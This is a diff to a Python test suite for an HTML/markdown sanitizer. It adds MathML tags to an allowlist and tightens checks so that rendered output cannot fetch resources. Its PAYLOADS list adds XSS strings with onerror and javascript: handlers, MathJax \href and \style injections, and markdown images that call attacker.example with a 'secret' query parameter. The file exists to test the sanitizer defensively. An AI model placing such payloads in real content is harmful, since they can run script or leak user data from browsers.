@@ -21,6 +21,11 @@ ALLOWED_TAGS = {
     "h1", "h2", "h3", "h4", "h5", "h6",
     "hr", "img", "input", "label", "li", "ol", "p", "pre", "s", "span", "strong", "table",
     "tbody", "td", "th", "thead", "tr", "ul", "style", "details", "summary",
+} | {  # MathML presentation elements (math is typeset as MathML)
+    "math", "semantics", "annotation", "mrow", "mi", "mn", "mo", "mtext", "ms", "mspace",
+    "msub", "msup", "msubsup", "munder", "mover", "munderover", "mfrac", "msqrt", "mroot",
+    "mtable", "mtr", "mtd", "mstyle", "mpadded", "mphantom", "menclose", "merror",
+    "mmultiscripts", "mprescripts", "none", "mfenced", "maction",
 }
 BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
 
@@ -57,6 +62,14 @@ PAYLOADS = [
     "\\`<img src=x onerror=alert(1)>`",
     "\t```\n<img src=x onerror=alert(1)>",
     "- a\n\n   ```\n<img src=x onerror=alert(1)>",
+    # Images that would make the browser fetch (issue 11 §2).
+    "![](https://attacker.example/?d=secret)",
+    "![x][r]\n\n[r]: https://attacker.example/ref.png",
+    "![x](//attacker.example/p.png)",
+    "<https://attacker.example/auto.png>",
+    "$\\href{javascript:alert(1)}{x}$ and $\\style{background:url(https://attacker.example)}{y}$",
+    "$$\\text{<img src=x onerror=alert(1)>}$$",
+    "\\[ \\href{https://attacker.example}{z} \\]",
 ]
 
 
@@ -92,7 +105,15 @@ def assert_inert(markup: str, *, own_style: int = 0) -> None:
         for name, value in attrs:
             assert not name.lower().startswith("on"), (tag, name, markup)
             if name.lower() in ("href", "src", "action", "formaction", "xlink:href"):
-                assert not _url_is_dangerous(value or ""), (tag, name, value)
+                assert not _url_is_dangerous(value or "") or (
+                    tag == "img" and name == "src" and value.startswith("data:image/")
+                ), (tag, name, value)
+            # Nothing may fetch: an <img> shows a data: URL only, never srcset.
+            if tag == "img" and name.lower() == "src":
+                assert (value or "").startswith("data:image/"), (tag, value)
+            assert name.lower() not in ("srcset", "background", "poster"), (tag, name)
+            if tag != "a" and tag != "label" and tag != "input":
+                assert name.lower() not in ("href", "for"), (tag, name, markup)
             if name.lower() == "style":
                 assert "url(" not in (value or "").lower(), value
     assert styles == own_style, markup
@@ -143,7 +164,8 @@ def test_a_refusal_and_warnings_are_inert(payload):
 
 def test_safe_links_and_markdown_still_work():
     rendered = markdown_html("See [docs](https://example.org/a?b=1) and **bold** `code`.")
-    assert '<a href="https://example.org/a?b=1">docs</a>' in rendered
+    assert ('<a href="https://example.org/a?b=1" rel="noopener noreferrer" target="_blank">'
+            'docs</a>') in rendered
     assert "<strong>bold</strong>" in rendered and "<code>code</code>" in rendered
     data, _ = static_bundle(QwenResponse(answer="See [docs](https://example.org)."))
     assert "[docs](https://example.org)" in data["text/markdown"]
